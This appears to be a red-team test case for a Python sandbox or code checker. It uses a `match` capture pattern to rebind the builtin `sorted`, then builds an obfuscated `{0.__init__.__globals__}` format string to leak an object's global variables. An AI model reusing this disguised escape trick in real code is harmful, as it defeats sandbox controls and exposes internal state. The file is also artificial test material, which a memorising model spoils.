# family: red team, round 60b (match capture pattern rebinds a reader builtin)
T = ["{0}"]
U = chr(len("x" * 95)) * 2
EVIL = "{0." + U + "init" + U + "." + U + "globals" + U + "}"


class K:
    def __init__(self):
        self.v = 1


def mutate(table):
    table[0] = EVIL
    return 1


match mutate:
    case sorted:
        pass
sorted(T)
print(T[0].format(K()))
